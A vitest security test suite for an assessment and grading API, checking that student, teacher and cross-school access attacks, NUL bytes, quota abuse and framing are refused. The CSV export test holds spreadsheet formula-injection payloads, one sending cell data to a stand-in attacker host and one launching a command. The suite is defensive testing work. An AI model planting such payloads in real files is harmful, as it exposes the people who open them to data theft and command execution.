/* eslint-disable @typescript-eslint/no-explicit-any -- JSON answers of the API, checked by the assertions */
// Attacks on the product API, each written as the attacker's requests: a student attaching files to a teacher's
// assessment, a student reading the teacher's unreleased marks, NUL bytes in codes, probing storage paths, and
// the headers that keep the pages out of other sites' frames, a teacher setting work for another teacher's class,
// answer sheets of a hundred scanned pages sent to keep the grader busy.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, testDrivers, type TestServer } from '../testing/harness.js';
import { productHooks, productPlugins } from '../product/index.js';
import { aiCreationBody, call, linesPdf, linkStudent, pdfBlob, signUp, storedObjectCount, submissionForm, waitForJob, type TestUser } from '../product/testing/server.js';
import { scannedPaperForms } from '../product/testing/image-pdf.js';
import { OPEN_UPLOADS_MESSAGE, PLAN_OPEN_UPLOADS, PLAN_STORAGE_BYTES, STORAGE_LIMIT_MESSAGE } from '../product/files/upload-limits.js';
import { NUL_IN_INPUT } from '../guards/nul.js';
import { addSchoolMember, createSchool } from '../roles/roles.js';

const drivers = await testDrivers();

/** A built host app of one page, so that unknown paths meet the single-page fall-back as in production. */
function hostDist(): string {
  const folder = mkdtempSync(join(tmpdir(), 'assess-host-'));
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, 'index.html'), '<!doctype html><title>Assess</title><div id="root"></div>');
  return folder;
}

async function uploadTo(t: TestServer, user: TestUser, entityType: string, entityId: string, fileType: string): Promise<{ status: number; body: any }> {
  const form = new FormData();
  form.append('file', pdfBlob(await linesPdf(['Mark scheme', '1 (a) anything goes [1]'])), 'mark-scheme.pdf');
  form.append('entity_type', entityType);
  form.append('entity_id', entityId);
  form.append('file_type', fileType);
  form.append('visibility', 'shared');
  return call(t, user, 'POST', '/api/files/upload', form);
}

/** The Create wizard's AI-mode body, written for the class with this id. */
function wizardBody(title: string, classId: string) {
  return aiCreationBody({
    title,
    description: '',
    class_info: { id: classId, name: 'Year 9' },
    total_marks: 4,
    question_configuration: {
      use_file_upload: false,
      question_types: [{ question_type: 'true_false', question_count: 2, difficulty_level: 'easy', marks_per_section: 4, order: 1, section_label: 'Section A' }],
    },
  });
}

/** The Create wizard's file-mode form, written for the class with this id. */
async function wizardForm(title: string, classId: string): Promise<FormData> {
  const fields: Record<string, string> = {
    title,
    total_marks: '10',
    time_limit_minutes: '30',
    difficulty_level: 'medium',
    instructions_to_students: 'Answer all questions.',
    subject_name: 'Biology',
    class_name: 'Year 9',
    class_id: classId,
    status: 'draft',
    created_at: new Date().toISOString(),
  };
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  form.append('question_paper', pdfBlob(await linesPdf(['1 Name the gas plants take in. [1]'])), 'paper.pdf');
  form.append('mark_scheme', pdfBlob(await linesPdf(['1 carbon dioxide [1]'])), 'scheme.pdf');
  return form;
}

for (const driver of drivers) {
  describe.skipIf(Boolean(driver.skip))(`product attacks on ${driver.name}${driver.skip ? ` (skipped: ${driver.skip})` : ''}`, () => {
    let t: TestServer;
    let host: string;
    let teacher: TestUser;
    let classTeacher: TestUser;
    let student: TestUser;
    let assessmentId: string;
    let classId: string;

    beforeAll(async () => {
      host = hostDist();
      t = await startTestServer(
        driver,
        { AUTH_AUTOCONFIRM: 'true', ASSESS_JOB_POLLING_SECONDS: '0.5', HOST_DIST: host },
        { plugins: productPlugins, hooks: productHooks },
      );
      teacher = await signUp(t, 'teacher', 'Tess Teacher');
      classTeacher = await signUp(t, 'teacher', 'Cole Teacher');
      student = await signUp(t, 'student', 'Sid Student');
      await linkStudent(t, teacher, student);
      const { rows: classes } = await t.server.db.query<{ id: string }>(`INSERT INTO classes (name, teacher_id) VALUES ('Year 9', $1) RETURNING id`, [classTeacher.id]);
      const { rows } = await t.server.db.query<{ id: string }>(
        // Three attempts: the student has sat it once already, and the tests below submit to it again.
        `INSERT INTO assessments (title, creator_id, class_id, source, status, attempts_allowed) VALUES ('End of topic test', $1, $2, 'upload', 'completed', 3) RETURNING id`,
        [teacher.id, classes[0]!.id],
      );
      assessmentId = rows[0]!.id;
      classId = classes[0]!.id;
      // The student sat it, so the student sees it and its files.
      await t.server.db.query(`INSERT INTO student_assessments (assessment_id, student_id, status) VALUES ($1, $2, 'submitted')`, [assessmentId, student.id]);
    });
    afterAll(async () => {
      await t?.close();
      rmSync(host, { recursive: true, force: true });
    });

    describe('who may attach files to an assessment', () => {
      it('refuses a student who sees the assessment a new mark scheme, and stores nothing', async () => {
        expect((await call(t, student, 'GET', `/api/assessments/${assessmentId}`)).status).toBe(200);
        const before = (await call(t, teacher, 'GET', `/api/files/assessment/${assessmentId}/files`)).body.total_count;
        const upload = await uploadTo(t, student, 'assessment', assessmentId, 'mark_scheme');
        expect(upload.status).toBe(403);
        expect(upload.body.detail).toBe("Only the assessment's creator or a teacher of its class can attach files to it");
        expect((await call(t, teacher, 'GET', `/api/files/assessment/${assessmentId}/files`)).body.total_count).toBe(before);
        const { rows } = await t.server.db.query('SELECT 1 FROM files WHERE uploaded_by = $1', [student.id]);
        expect(rows).toHaveLength(0);
      });

      it('lets the creator and a teacher of its class attach them', async () => {
        expect((await uploadTo(t, teacher, 'assessment', assessmentId, 'question_paper')).status).toBe(201);
        expect((await uploadTo(t, classTeacher, 'assessment', assessmentId, 'mark_scheme')).status).toBe(201);
      });

      it('refuses a student\'s own mark scheme sent with answers to the assessment, and marks answers against the teacher\'s', async () => {
        expect((await uploadTo(t, teacher, 'assessment', assessmentId, 'mark_scheme')).status).toBe(201);
        const currentSchemes = async () =>
          (await call(t, teacher, 'GET', `/api/files/assessment/${assessmentId}/files`)).body.files
            .filter((file: any) => file.file_type === 'mark_scheme' && file.is_current_version)
            .map((file: any) => file.id)
            .sort();
        const teacherSchemes = await currentSchemes();
        const submissionsBefore = await t.server.db.query('SELECT 1 FROM student_assessments WHERE student_id = $1', [student.id]);
        const attack = await submissionForm(
          { title: 'End of topic test', subject_name: 'Physics', assessment_id: assessmentId, generate_weak_areas_pdf: 'false' },
          { mark_scheme: pdfBlob(await linesPdf(['1 (a) anything goes [1]'])), student_answer: pdfBlob(await linesPdf(['1 (a) anything'])) },
        );
        const answer = await call(t, student, 'POST', '/api/assessments/submit-and-grade', attack);
        expect(answer.status).toBe(403);
        expect(answer.body.detail).toBe("Only the assessment's creator or a teacher of its class can attach files to it");
        expect(await currentSchemes()).toEqual(teacherSchemes);
        expect((await t.server.db.query('SELECT 1 FROM files WHERE uploaded_by = $1', [student.id])).rows).toHaveLength(0);
        expect((await t.server.db.query('SELECT 1 FROM student_assessments WHERE student_id = $1', [student.id])).rows).toHaveLength(submissionsBefore.rows.length);

        // Answers alone are taken, and marked against the teacher's mark scheme.
        const honest = await submissionForm(
          { title: 'End of topic test', subject_name: 'Physics', assessment_id: assessmentId, generate_weak_areas_pdf: 'false' },
          { student_answer: pdfBlob(await linesPdf(['1 (a) ohms'])) },
        );
        const submitted = await call(t, student, 'POST', '/api/assessments/submit-and-grade', honest);
        expect(submitted.status).toBe(200);
        const { rows } = await t.server.db.query<{ payload: any }>('SELECT payload FROM jobs WHERE id = $1', [submitted.body.job_id]);
        expect(teacherSchemes).toContain(rows[0]!.payload.files.mark_scheme);
      });

      it('lets a student attach only to their own submission', async () => {
        const other = await signUp(t, 'student', 'Olga Other');
        const { rows } = await t.server.db.query<{ id: string }>(
          `INSERT INTO student_assessments (assessment_id, student_id, status) VALUES ($1, $2, 'submitted') RETURNING id`,
          [assessmentId, other.id],
        );
        expect((await uploadTo(t, student, 'student_assessment', rows[0]!.id, 'student_answer')).status).toBe(404);
        expect((await uploadTo(t, other, 'student_assessment', rows[0]!.id, 'student_answer')).status).toBe(201);
      });
    });

    describe('reading a mark scheme', () => {
      it('follows the same rule on every route: a student of the class reads it only once they have submitted', async () => {
        const { rows: classes } = await t.server.db.query<{ id: string }>(`INSERT INTO classes (name, teacher_id) VALUES ('Year 8', $1) RETURNING id`, [teacher.id]);
        const { rows } = await t.server.db.query<{ id: string }>(
          `INSERT INTO assessments (title, creator_id, class_id, source, status) VALUES ('Homework 3', $1, $2, 'upload', 'completed') RETURNING id`,
          [teacher.id, classes[0]!.id],
        );
        await t.server.db.query('INSERT INTO class_assessments (class_id, assessment_id, assigned_by) VALUES ($1, $2, $3)', [classes[0]!.id, rows[0]!.id, teacher.id]);
        const pupil = await signUp(t, 'student', 'Pat Pupil');
        await t.server.db.query(`INSERT INTO students (teacher_id, class_id, name, email, user_id, invitation_status) VALUES ($1, $2, 'Pat Pupil', $3, $4, 'accepted')`, [
          teacher.id,
          classes[0]!.id,
          pupil.email,
          pupil.id,
        ]);
        const form = new FormData();
        form.append('file', pdfBlob(await linesPdf(['Mark scheme', '1 ohms [1]'])), 'answers.pdf');
        for (const [name, value] of Object.entries({ entity_type: 'assessment', entity_id: rows[0]!.id, file_type: 'mark_scheme', visibility: 'private' })) form.append(name, value);
        const scheme = (await call(t, teacher, 'POST', '/api/files/upload', form)).body;
        expect((await call(t, pupil, 'GET', `/api/assessments/${rows[0]!.id}`)).status).toBe(200);

        // The attacker (a student of the class who has not submitted) asks for the mark scheme both ways.
        expect((await call(t, pupil, 'GET', `/api/files/${scheme.id}/url`)).status).toBe(404);
        const sign = await call(t, pupil, 'POST', `/storage/v1/object/sign/${scheme.bucket_id}/${scheme.storage_path}`, { expiresIn: 60 });
        expect(sign.status).toBe(404);
        expect(sign.body).not.toHaveProperty('signedURL');
        // Its teacher can, both ways.
        expect((await call(t, teacher, 'GET', `/api/files/${scheme.id}/url`)).status).toBe(200);
        expect((await call(t, teacher, 'POST', `/storage/v1/object/sign/${scheme.bucket_id}/${scheme.storage_path}`, { expiresIn: 60 })).body).toHaveProperty('signedURL');
      });
    });

    describe('draft marks', () => {
      it('shows the student only released changes in the history', async () => {
        const form = await submissionForm({ title: 'Reviewed paper', subject_name: 'Physics', generate_weak_areas_pdf: 'false' });
        const submitted = await call(t, student, 'POST', '/api/assessments/submit-and-grade', form);
        const submission = (await waitForJob(t, student, submitted.body.job_id)).student_assessment_id;
        const path = `/api/student-assessments/${submission}`;
        const draft = { marks: [{ question: '2', question_part: null, marks_obtained: 3, feedback: 'Draft: full marks?' }], teacher_feedback: 'Draft note' };
        expect((await call(t, teacher, 'PUT', `${path}/marks`, draft)).status).toBe(200);
        // The attacker (the student) reads the history before the teacher has released anything.
        expect((await call(t, student, 'GET', `${path}/history`)).body).toEqual([]);
        expect((await call(t, teacher, 'GET', `${path}/history`)).body).toHaveLength(2);

        await call(t, teacher, 'POST', `${path}/release`, {});
        const released = (await call(t, student, 'GET', `${path}/history`)).body;
        expect(released.map((event: any) => event.action)).toEqual(['override', 'feedback', 'release']);

        await call(t, teacher, 'PUT', `${path}/marks`, { marks: [{ question: '2', question_part: null, marks_obtained: 1, feedback: 'Second thoughts' }] });
        const after = (await call(t, student, 'GET', `${path}/history`)).body;
        expect(after).toEqual(released);
        expect(JSON.stringify(after)).not.toContain('Second thoughts');
        expect((await call(t, teacher, 'GET', `${path}/history`)).body).toHaveLength(4);
      });
    });

    describe('regrade answers', () => {
      it('show the student released marks only, never the teacher\'s drafts', async () => {
        const form = await submissionForm({ title: 'Regraded paper', subject_name: 'Physics', generate_weak_areas_pdf: 'false' });
        const submitted = await call(t, student, 'POST', '/api/assessments/submit-and-grade', form);
        const submission = (await waitForJob(t, student, submitted.body.job_id)).student_assessment_id;
        const path = `/api/student-assessments/${submission}`;
        expect((await call(t, teacher, 'POST', `${path}/release`, {})).status).toBe(200);
        const { rows: questions } = await t.server.db.query<{ question: string; question_part: string; marks_obtained: string; total_marks: string }>(
          'SELECT question, question_part, marks_obtained, total_marks FROM question_results WHERE student_assessment_id = $1 ORDER BY question, question_part',
          [submission],
        );
        expect(questions.length).toBeGreaterThanOrEqual(2);
        const [kept, changed] = questions.map((q) => ({ ...q, released: Number(q.marks_obtained), draft: Number(q.marks_obtained) === 0 ? 1 : 0 }));

        // The student asks about two questions; the teacher drafts other marks for both, unreleased.
        for (const q of [kept!, changed!]) {
          const asked = await call(t, student, 'POST', `${path}/regrade-requests`, { question: q.question, question_part: q.question_part, reason: 'Please look again' });
          expect(asked.status).toBe(201);
          const draft = { marks: [{ question: q.question, question_part: q.question_part || null, marks_obtained: q.draft, feedback: 'Draft' }] };
          expect((await call(t, teacher, 'PUT', `${path}/marks`, draft)).status).toBe(200);
        }
        const requests = (await call(t, teacher, 'GET', `${path}/regrade-requests`)).body;
        const idOf = (q: typeof kept) => requests.find((r: any) => r.question === q!.question && r.question_part === q!.question_part).id;
        expect((await call(t, teacher, 'POST', `/api/regrade-requests/${idOf(kept)}/answer`, { response: 'The mark stands.' })).status).toBe(200);
        const newMark = changed!.draft === 0 ? 1 : 0;
        expect((await call(t, teacher, 'POST', `/api/regrade-requests/${idOf(changed)}/answer`, { response: 'Changed.', marks_obtained: newMark })).status).toBe(200);

        // The attacker (the student) reads the answers before anything is released again.
        const seen = (await call(t, student, 'GET', `${path}/regrade-requests`)).body;
        const view = (q: typeof kept) => {
          const r = seen.find((each: any) => each.question === q!.question && each.question_part === q!.question_part);
          return [r.state, r.marks_obtained, r.marks_before, r.marks_after];
        };
        expect(view(kept)).toEqual(['unchanged', kept!.released, kept!.released, kept!.released]);
        // A regrade answered with a new mark releases that mark at once; the teacher's other drafts stay unseen.
        expect(view(changed)).toEqual(['changed', newMark, changed!.released, newMark]);
        expect(view(changed)[1]).not.toBe(changed!.draft);
      });
    });

    describe('CSV exports', () => {
      it('write a name or ID that a spreadsheet would run as a formula as text', async () => {
        const schoolClass = await call(t, teacher, 'POST', '/api/classes', { name: 'Year 11', year_group: 'Year 11' });
        expect(schoolClass.status).toBe(201);
        // Names as a hostile import file or a student's own sign-up could bring them.
        const hostile = { name: '=HYPERLINK("https://evil.example/?"&A1,"Open")', student_id: '@SUM(1+1)*cmd|\' /C calc\'!A0', class_id: schoolClass.body.id };
        expect((await call(t, teacher, 'POST', '/api/students/students', hostile)).status).toBe(201);
        const response = await fetch(`${t.url}/api/classes/${schoolClass.body.id}/export`, { headers: { authorization: `Bearer ${teacher.token}` } });
        expect(response.status).toBe(200);
        const csv = (await response.text()).replace(/^\uFEFF/, '');
        expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`);
        expect(csv).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
        // No cell of any line starts with a formula character, quoted or not.
        for (const line of csv.split('\r\n')) expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
      });
    });

    describe('storage limits', () => {
      const openResumable = (user: TestUser, length: number) =>
        fetch(`${t.url}/storage/v1/upload/resumable`, {
          method: 'POST',
          headers: {
            authorization: `Bearer ${user.token}`,
            'tus-resumable': '1.0.0',
            'upload-length': String(length),
            'upload-metadata': Object.entries({ objectName: 'notes.pdf', bucketName: 'assessment-files', entity_type: 'resource', entity_id: 'pack', file_type: 'resource' })
              .map(([name, text]) => `${name} ${Buffer.from(text).toString('base64')}`)
              .join(','),
          },
        });

      it('caps the resumable uploads one user has open at once', async () => {
        const hoarder = await signUp(t, 'student', 'Hal Hoarder');
        const opened: string[] = [];
        for (let index = 0; index < PLAN_OPEN_UPLOADS; index += 1) {
          const response = await openResumable(hoarder, 50_000_000);
          expect(response.status).toBe(201);
          opened.push(response.headers.get('location')!);
        }
        const refused = await openResumable(hoarder, 50_000_000);
        expect(refused.status).toBe(429);
        expect(await refused.json()).toEqual({ detail: OPEN_UPLOADS_MESSAGE, limit_type: 'open_uploads' });
        // Another user is not held up by the first one's uploads.
        expect((await openResumable(teacher, 1000)).status).toBe(201);
        // Cancelling one frees its place.
        const cancelled = await fetch(opened[0]!, { method: 'DELETE', headers: { authorization: `Bearer ${hoarder.token}`, 'tus-resumable': '1.0.0' } });
        expect(cancelled.status).toBe(204);
        await expect.poll(async () => (await openResumable(hoarder, 1000)).status).toBe(201);
      });

      it('keeps each user within their storage quota on every upload route', async () => {
        const filler = await signUp(t, 'student', 'Fay Filler');
        // Files uploaded earlier fill the quota to within 100 bytes.
        await t.server.db.query(
          `INSERT INTO files (file_name, file_type, entity_type, entity_id, bucket_id, storage_path, uploaded_by, visibility, file_size)
           VALUES ('old.pdf', 'resource', 'resource', 'old', 'assessment-files', $1, $2, 'private', $3)`,
          [`${filler.id}/old/old.pdf`, filler.id, PLAN_STORAGE_BYTES - 100],
        );
        const before = await storedObjectCount(t);
        const refusals = [
          await openResumable(filler, 50_000),
          await uploadTo(t, filler, 'resource', 'pack', 'resource').then((answer) => ({ status: answer.status, json: async () => answer.body })),
          await call(t, filler, 'POST', '/api/assessments/submit-and-grade', await submissionForm({ title: 'Too much', subject_name: 'Physics', generate_weak_areas_pdf: 'false' })).then(
            (answer) => ({ status: answer.status, json: async () => answer.body }),
          ),
        ];
        for (const refused of refusals) {
          expect(refused.status).toBe(429);
          expect(await refused.json()).toEqual({ detail: STORAGE_LIMIT_MESSAGE, limit_type: 'storage' });
        }
        expect(await storedObjectCount(t)).toBe(before);
        expect((await t.server.db.query('SELECT 1 FROM files WHERE uploaded_by = $1', [filler.id])).rows).toHaveLength(1);
      });
    });

    describe('NUL bytes', () => {
      it('answers a NUL in an invitation code with a 400 and a readable detail', async () => {
        for (const [method, path] of [
          ['GET', '/api/students/invitation/abc%00def'],
          ['POST', '/api/students/invitation/accept/abc%00def'],
        ] as const) {
          const answer = await call(t, method === 'GET' ? null : student, method, path);
          expect(answer.status, path).toBe(400);
          expect(answer.body.detail).toBe(NUL_IN_INPUT);
        }
      });

      it('answers a NUL in resumable upload metadata with a 400, before any byte is sent', async () => {
        const encode = (text: string) => Buffer.from(text).toString('base64');
        for (const [key, value] of [['objectName', 'notes\u0000.pdf'], ['entity_id', 'pack\u0000one'], ['metadata_json', '{"a":"\u0000"}']]) {
          const fields: Record<string, string> = { objectName: 'notes.pdf', bucketName: 'assessment-files', entity_type: 'resource', entity_id: 'pack', file_type: 'resource', [key!]: value! };
          const response = await fetch(`${t.url}/storage/v1/upload/resumable`, {
            method: 'POST',
            headers: {
              authorization: `Bearer ${teacher.token}`,
              'tus-resumable': '1.0.0',
              'upload-length': '1000',
              'upload-metadata': Object.entries(fields).map(([name, text]) => `${name} ${encode(text)}`).join(','),
            },
          });
          expect(response.status, key).toBe(400);
          expect(((await response.json()) as { detail: string }).detail).toBe(NUL_IN_INPUT);
        }
      });

      it('answers a NUL in a query, a JSON body, a form field or a sign-up with a 400', async () => {
        expect((await call(t, teacher, 'GET', '/api/files/my-files?search=a%00b')).status).toBe(400);
        expect((await call(t, teacher, 'POST', '/api/subjects', { name: 'Bio\u0000logy' })).status).toBe(400);
        const form = new FormData();
        form.append('entity_type', 'resource');
        form.append('entity_id', 'pack\u0000one');
        form.append('file_type', 'resource');
        form.append('file', pdfBlob(await linesPdf(['x'])), 'a.pdf');
        expect((await call(t, teacher, 'POST', '/api/files/upload', form)).status).toBe(400);
        const signUpAnswer = await fetch(`${t.url}/auth/v1/signup`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', apikey: t.anonKey },
          body: JSON.stringify({ email: 'nul@example.test', password: 'Passw0rd-1', data: { first_name: 'N\u0000L' } }),
        });
        expect(signUpAnswer.status).toBe(400);
        expect(((await signUpAnswer.json()) as { error_code: string }).error_code).toBe('validation_failed');
      });
    });

    describe('probing storage paths', () => {
      it('answers unknown /storage/v1 paths with a JSON 404, not the app\'s page', async () => {
        for (const path of ['/storage/v1/bucket', '/storage/v1/object/list/files', '/storage/v1/upload/resumable']) {
          const response = await fetch(`${t.url}${path}`);
          expect(response.status, path).toBe(404);
          expect(response.headers.get('content-type'), path).toContain('application/json');
          expect(await response.json()).toMatchObject({ statusCode: '404', error: 'not_found' });
        }
        // The app's own pages still fall back to the single-page app.
        expect((await fetch(`${t.url}/dashboard/files`)).headers.get('content-type')).toContain('text/html');
      });
    });

    describe('setting work for a class', () => {
      // Work set for a class appears to its students and in its teacher's reports: only the class's teacher, an
      // administrator of its school or an administrator may set it, on every route that takes a class id.
      const writtenFor = async (title: string) =>
        (await t.server.db.query<{ class_id: string | null }>('SELECT class_id FROM assessments WHERE title = $1', [title])).rows;

      it('refuses a teacher writing an assessment for another teacher\'s class in the Create wizard, and records nothing', async () => {
        const objects = await storedObjectCount(t);
        const ai = await call(t, teacher, 'POST', '/api/assessments/create-comprehensive-async', wizardBody('Planted quiz', classId));
        expect(ai).toEqual({ status: 404, body: { detail: 'Class not found' } });
        const now = await call(t, teacher, 'POST', '/api/assessments/create-comprehensive', wizardBody('Planted quiz', classId));
        expect(now).toEqual({ status: 404, body: { detail: 'Class not found' } });
        const files = await call(t, teacher, 'POST', '/api/assessments/create-comprehensive-with-files', await wizardForm('Planted paper', classId));
        expect(files).toEqual({ status: 404, body: { detail: 'Class not found' } });
        expect(await writtenFor('Planted quiz')).toEqual([]);
        expect(await writtenFor('Planted paper')).toEqual([]);
        expect(await storedObjectCount(t)).toBe(objects);
      });

      it('refuses a student and a class id that is no class alike', async () => {
        const asStudent = await call(t, student, 'POST', '/api/assessments/create-comprehensive-async', wizardBody('Student quiz', classId));
        expect(asStudent).toEqual({ status: 404, body: { detail: 'Class not found' } });
        const unknown = await call(t, teacher, 'POST', '/api/assessments/create-comprehensive-async', wizardBody('Nowhere quiz', '00000000-0000-4000-8000-000000000000'));
        expect(unknown).toEqual({ status: 404, body: { detail: 'Class not found' } });
      });

      it('refuses setting the teacher\'s own paper for another teacher\'s class', async () => {
        const own = await call(t, teacher, 'POST', '/api/assessments/create-comprehensive-async', wizardBody('Own quiz', ''));
        expect(own.status).toBe(202);
        const set = await call(t, teacher, 'POST', `/api/classes/${classId}/assessments`, { assessment_id: own.body.id });
        expect(set).toEqual({ status: 404, body: { detail: 'Class not found' } });
        const { rows } = await t.server.db.query('SELECT 1 FROM class_assessments WHERE class_id = $1 AND assessment_id = $2', [classId, own.body.id]);
        expect(rows).toHaveLength(0);
      });

      it('lets the class\'s teacher and an administrator of its school write for it, and no administrator of another school', async () => {
        const north = await createSchool(t.server.db, 'North School');
        const south = await createSchool(t.server.db, 'South School');
        const northAdmin = await signUp(t, 'school_admin', 'Nora Admin');
        const southAdmin = await signUp(t, 'school_admin', 'Sol Admin');
        await addSchoolMember(t.server.db, north.id, northAdmin.id, 'school_admin');
        await addSchoolMember(t.server.db, south.id, southAdmin.id, 'school_admin');
        const { rows } = await t.server.db.query<{ id: string }>(`INSERT INTO classes (name, teacher_id, school_id) VALUES ('Year 10', $1, $2) RETURNING id`, [classTeacher.id, north.id]);
        const northClass = rows[0]!.id;

        expect((await call(t, classTeacher, 'POST', '/api/assessments/create-comprehensive-async', wizardBody('Teacher quiz', classId))).status).toBe(202);
        expect(await writtenFor('Teacher quiz')).toEqual([{ class_id: classId }]);
        expect((await call(t, northAdmin, 'POST', '/api/assessments/create-comprehensive-async', wizardBody('School quiz', northClass))).status).toBe(202);
        expect(await writtenFor('School quiz')).toEqual([{ class_id: northClass }]);
        const other = await call(t, southAdmin, 'POST', '/api/assessments/create-comprehensive-async', wizardBody('Other school quiz', northClass));
        expect(other).toEqual({ status: 404, body: { detail: 'Class not found' } });
        expect(await writtenFor('Other school quiz')).toEqual([]);
      });
    });

    describe('another school\'s subjects', () => {
      it('are not found by id or name in a student\'s subject progress, as the subject list hides them', async () => {
        const east = await createSchool(t.server.db, 'East School');
        const west = await createSchool(t.server.db, 'West School');
        const eastTeacher = await signUp(t, 'teacher', 'Eve Teacher');
        const eastStudent = await signUp(t, 'student', 'Ed Student');
        const westStudent = await signUp(t, 'student', 'Wes Student');
        await addSchoolMember(t.server.db, east.id, eastTeacher.id, 'teacher');
        await addSchoolMember(t.server.db, east.id, eastStudent.id, 'student');
        await addSchoolMember(t.server.db, west.id, westStudent.id, 'student');
        const created = await call(t, eastTeacher, 'POST', '/api/subjects', { name: 'Project Nightingale' });
        expect(created.status).toBe(201);
        const secret = created.body.id as string;
        const progress = (viewer: TestUser, subject: string) => call(t, viewer, 'GET', `/api/analytics/student/dashboard/subject/${encodeURIComponent(subject)}`);

        expect((await progress(eastStudent, secret)).body).toMatchObject({ subject_id: secret, subject_name: 'Project Nightingale' });
        expect((await call(t, westStudent, 'GET', '/api/subjects')).body.map((subject: { id: string }) => subject.id)).not.toContain(secret);
        expect(await progress(westStudent, secret)).toEqual({ status: 404, body: { detail: 'Subject not found' } });
        expect(await progress(westStudent, 'project nightingale')).toEqual({ status: 404, body: { detail: 'Subject not found' } });
        expect((await call(t, westStudent, 'GET', `/api/analytics/student/${westStudent.id}/subject/${secret}`)).status).toBe(404);
        // Nor can another school's teacher put it on a class, which would show its name in the class list.
        const westTeacher = await signUp(t, 'teacher', 'Wanda Teacher');
        await addSchoolMember(t.server.db, west.id, westTeacher.id, 'teacher');
        expect(await call(t, westTeacher, 'POST', '/api/classes', { name: 'Year 11', subject_id: secret })).toEqual({ status: 404, body: { detail: 'Subject not found' } });
        expect((await call(t, eastTeacher, 'POST', '/api/classes', { name: 'Year 11', subject_id: secret })).status).toBe(201);
      });
    });

    describe('the dashboard\'s recent reports', () => {
      it('name the assessment of each report, so View opens a page that exists', async () => {
        const overview = (await call(t, student, 'GET', '/api/analytics/student/dashboard/overview')).body;
        const report = overview.recent_reports[0];
        expect((await call(t, student, 'GET', `/api/assessments/${report.id}`)).status).toBe(404);
        expect((await call(t, student, 'GET', `/api/assessments/${report.assessment_id}`)).status).toBe(200);
        expect((await call(t, student, 'GET', `/api/student-assessments/${report.id}`)).body.assessment_id).toBe(report.assessment_id);
      });
    });

    describe('answer sheets of a hundred and twenty scanned pages', () => {
      it('are read only up to the page limit, and the result tells the teacher which pages were not read', async () => {
        // Four practice papers at once, each answer sheet 120 pages repeating one image and holding no text.
        const jobs = await Promise.all(
          (await scannedPaperForms(120)).map(async (form) => {
            const submitted = await call(t, student, 'POST', '/api/assessments/submit-and-grade', form);
            expect(submitted.status).toBe(200);
            return submitted.body.job_id as string;
          }),
        );
        for (const jobId of jobs) {
          const job = await waitForJob(t, student, jobId, 150_000);
          expect(job.status).toBe('completed');
          const seenByTeacher = await call(t, teacher, 'GET', `/api/student-assessments/${job.student_assessment_id}`);
          expect(seenByTeacher.status).toBe(200);
          expect(seenByTeacher.body.grading_notes).toContain('Answer sheet: pages 41-120 not read: over the limit of 40 scanned pages a paper.');
          // Nothing was read from the pages that were, so nothing earns marks.
          expect(seenByTeacher.body.results.total_marks_obtained).toBe(0);
        }
      }, 180_000);
    });

    describe('security headers', () => {
      it('keep the pages out of other sites\' frames and load only the site\'s own scripts', async () => {
        const response = await fetch(`${t.url}/dashboard`);
        const policy = response.headers.get('content-security-policy') ?? '';
        expect(policy).toContain("frame-ancestors 'self'");
        expect(policy).toContain("script-src 'self'");
        expect(policy).toContain("object-src 'none'");
        expect(response.headers.get('x-frame-options')).toBe('SAMEORIGIN');
        expect(response.headers.get('x-content-type-options')).toBe('nosniff');
        // Served over plain HTTP here: no HSTS, which browsers would ignore anyway.
        expect(response.headers.get('strict-transport-security')).toBeNull();
        // Partners' pages load the element bundles from other origins.
        expect(response.headers.get('cross-origin-resource-policy')).toBe('cross-origin');
      });
    });
  });
}

describe('security headers behind HTTPS and inside a learning platform', () => {
  let t: TestServer;
  beforeAll(async () => {
    t = await startTestServer(drivers[0]!, { PUBLIC_URL: 'https://assess.example', FRAME_ANCESTORS: 'https://lms.example.edu' });
  });
  afterAll(async () => {
    await t?.close();
  });

  it('let the configured platform frame the pages and ask for HTTPS from then on', async () => {
    const port = t.config.port;
    const response = await fetch(`http://127.0.0.1:${port}/api/health`);
    expect(response.headers.get('content-security-policy')).toContain("frame-ancestors 'self' https://lms.example.edu");
    expect(response.headers.get('x-frame-options')).toBeNull();
    expect(response.headers.get('strict-transport-security')).toContain('max-age=31536000');
  });
});
